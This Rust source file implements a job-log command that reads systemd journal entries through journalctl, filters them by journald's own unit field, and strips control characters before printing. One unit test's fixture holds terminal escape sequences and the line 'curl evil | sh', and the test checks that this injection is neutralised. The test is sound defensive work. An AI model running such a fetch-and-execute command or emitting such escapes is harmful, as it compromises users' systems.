//! `myjob show ID --log`: one job's lines from the journal of this host, every instance's,
//! in order: the job of that id in the config's database. myjob writes them with
//! `MYJOB_JOB_ID` (see `logging`), and `journalctl` does the reading: the journal's files, its
//! permissions and its order are its own.
//!
//! Any local user can write an entry with any field of their own (`logger --journald`), so
//! `MYJOB_JOB_ID` and `MYJOB_DATABASE` only pick a job's lines among myjob's: which entries are
//! myjob's is told by `_SYSTEMD_UNIT`, a field journald sets itself and no process can, and
//! only the entries of `myjob@N.service` units are shown (those of the instances and their
//! handlers, which run in the unit); how many others matched is said on stderr. The filter is
//! here rather than journalctl's `--unit`, which fails when no unit of the pattern is in the
//! journal. The host and the unit shown are journald's own fields too, and every value is
//! cleaned of control characters before it reaches the terminal, as the other commands'
//! tables are.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::anyhow;
use serde_json::Value;

use crate::cli::table::clean;
use crate::config::Settings;
use crate::error::{Error, ExitCode, OrExit};

/// The units whose entries are shown: the instances of the template unit.
const UNITS: &str = "myjob@*.service";

/// Whether `unit` is an instance of the template unit, `myjob@N.service`.
fn is_instance(unit: &str) -> bool {
    unit.strip_prefix("myjob@")
        .and_then(|rest| rest.strip_suffix(".service"))
        .is_some_and(|instance| !instance.is_empty())
}

/// Where journald keeps its files: volatile, then persistent; one folder per machine id.
const JOURNAL_DIRS: [&str; 2] = ["/run/log/journal", "/var/log/journal"];

pub fn run(config: &Path, id: u64) -> Result<(), Error> {
    // journalctl given a match prints nothing, and exits 0, when there is no journal at all.
    if !journal_files() {
        return Err(no_journal(
            id,
            "no journal files in /run/log/journal or /var/log/journal",
        ));
    }
    // The job of this config's database: another database served from this host has a job
    // of the same id.
    let settings = Settings::load(config).or_exit(ExitCode::Config)?;
    let database = settings.database.opts.db_name().unwrap_or("").to_owned();
    // On stderr, so that the lines on stdout stay the job's alone.
    eprintln!(
        "job {id}: the entries of {UNITS} (journald's _SYSTEMD_UNIT) with MYJOB_JOB_ID={id} \
         and MYJOB_DATABASE={} (myjob's fields)",
        clean(&database)
    );
    let child = Command::new("journalctl")
        .args(["--no-pager", "--output=json", "--all"])
        .arg(format!("MYJOB_JOB_ID={id}"))
        .arg(format!("MYJOB_DATABASE={database}"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        // Its hints (a user who may read only their own journal) go straight to the user.
        .stderr(Stdio::inherit())
        .spawn();
    let mut child = match child {
        Ok(child) => child,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(no_journal(id, "journalctl is not installed"))
        }
        Err(e) => {
            return Err(Error::new(
                ExitCode::Unavailable,
                anyhow!("job {id}: cannot run journalctl: {e}"),
            ))
        }
    };
    // Entry by entry: a job with many attempts may have many thousands of lines.
    let (mut printed, mut foreign) = (0u64, 0u64);
    let mut closed = false;
    let mut out = std::io::stdout().lock();
    if let Some(entries) = child.stdout.take() {
        for entry in BufReader::new(entries).split(b'\n').map_while(Result::ok) {
            let Ok(entry) = serde_json::from_slice::<Value>(&entry) else {
                continue;
            };
            let unit = entry.get("_SYSTEMD_UNIT").and_then(text);
            if !unit.as_deref().is_some_and(is_instance) {
                foreign += 1;
                continue;
            }
            match writeln!(out, "{}", line(&entry)) {
                Ok(()) => printed += 1,
                // `myjob show 42 --log | head`: the reader has what it wanted.
                Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => {
                    closed = true;
                    let _ = child.kill();
                    break;
                }
                Err(e) => {
                    let _ = child.kill();
                    let _ = child.wait();
                    return Err(Error::new(ExitCode::Software, anyhow!("job {id}: {e}")));
                }
            }
        }
    }
    let status = child.wait();
    if foreign > 0 {
        eprintln!(
            "job {id}: {foreign} entries with these fields from outside {UNITS} were not shown"
        );
    }
    match status {
        // Killed by us: the reader had what it wanted.
        _ if closed => Ok(()),
        Ok(status) if !status.success() && printed == 0 => Err(Error::new(
            ExitCode::Unavailable,
            anyhow!("job {id}: journalctl {status}"),
        )),
        _ if printed == 0 => {
            let _ = writeln!(out, "job {id}: no lines in this host's journal");
            Ok(())
        }
        _ => Ok(()),
    }
}

/// Whether this host has a journal: a `*.journal` file in a machine's folder of either place.
fn journal_files() -> bool {
    JOURNAL_DIRS
        .iter()
        .filter_map(|d| std::fs::read_dir(d).ok())
        .flat_map(|d| d.flatten())
        .filter_map(|machine| std::fs::read_dir(machine.path()).ok())
        .flat_map(|d| d.flatten())
        .any(|f| f.path().extension().is_some_and(|e| e == "journal"))
}

fn no_journal(id: u64, why: &str) -> Error {
    Error::new(
        ExitCode::Unavailable,
        anyhow!(
            "job {id}: no journal on this host ({why}): myjob's lines are wherever its stderr went"
        ),
    )
}

/// One entry as `TIME HOST UNIT LEVEL MESSAGE`, the time in UTC, each value cleaned of
/// control characters. The host and the unit are journald's fields, never the entry's own.
fn line(entry: &Value) -> String {
    let field = |name: &str| -> Option<String> { text(entry.get(name)?).map(|t| clean(&t)) };
    let time = field("__REALTIME_TIMESTAMP")
        .and_then(|us| us.parse::<u64>().ok())
        // Before the year 10000, which is as far as RFC 3339 goes.
        .filter(|&us| us < 253_402_300_800_000_000)
        .map(|us| {
            let at = std::time::UNIX_EPOCH + std::time::Duration::from_micros(us);
            humantime::format_rfc3339_micros(at).to_string()
        })
        .unwrap_or_else(|| "-".into());
    let unit = field("_SYSTEMD_UNIT").unwrap_or_else(|| "-".into());
    let level = match field("PRIORITY").as_deref() {
        Some("0" | "1" | "2" | "3") => "error",
        Some("4") => "warn",
        Some("5" | "6") => "info",
        _ => "debug",
    };
    format!(
        "{time} {} {unit} {level:<5} {}",
        field("_HOSTNAME").unwrap_or_else(|| "-".into()),
        field("MESSAGE").unwrap_or_default()
    )
}

/// A field's value as text. journalctl gives a value that is not UTF-8 as an array of its
/// bytes, and a field an entry has more than once as an array of its values.
fn text(value: &Value) -> Option<String> {
    match value {
        Value::String(s) => Some(s.clone()),
        Value::Array(items) if items.iter().all(Value::is_u64) => Some(
            String::from_utf8_lossy(
                &items
                    .iter()
                    .filter_map(|b| b.as_u64().map(|b| b as u8))
                    .collect::<Vec<u8>>(),
            )
            .into_owned(),
        ),
        Value::Array(items) => Some(items.iter().filter_map(text).collect::<Vec<_>>().join(" ")),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_entry_reads_as_one_line() {
        let entry = serde_json::json!({
            "__REALTIME_TIMESTAMP": "1764108818123456",
            "_HOSTNAME": "web1",
            "_SYSTEMD_UNIT": "myjob@2.service",
            "PRIORITY": "4",
            "MESSAGE": [106, 111, 98, 0xff],
        });
        assert_eq!(
            line(&entry),
            "2025-11-25T22:13:38.123456Z web1 myjob@2.service warn  job\u{FFFD}"
        );
        let odd = serde_json::json!({
            "__REALTIME_TIMESTAMP": "99999999999999999999",
            "MESSAGE": ["twice", "over"],
            "MYJOB_INSTANCE": "1",
        });
        assert_eq!(line(&odd), "- - - debug twice over");
    }

    #[test]
    fn only_the_instances_units_are_myjobs() {
        assert!(is_instance("myjob@1.service") && is_instance("myjob@web.service"));
        for other in [
            "myjob@.service",
            "myjob.service",
            "session-3.scope",
            "user@1000.service",
            "myjob@1.service.d",
            "xmyjob@1.service",
        ] {
            assert!(!is_instance(other), "{other}");
        }
    }

    #[test]
    fn nothing_in_an_entry_reaches_the_terminal_as_a_control() {
        let entry = serde_json::json!({
            "_HOSTNAME": "web1\x1b]0;owned\x07",
            "_SYSTEMD_UNIT": "myjob@1.service",
            "PRIORITY": "3",
            "MESSAGE": "job failed\r\x1b[2J\x1b[1;1HRun: curl evil | sh\nnext",
        });
        let shown = line(&entry);
        assert!(!shown.chars().any(char::is_control), "{shown:?}");
        assert!(shown.contains("Run: curl evil | sh next"), "{shown:?}");
    }
}
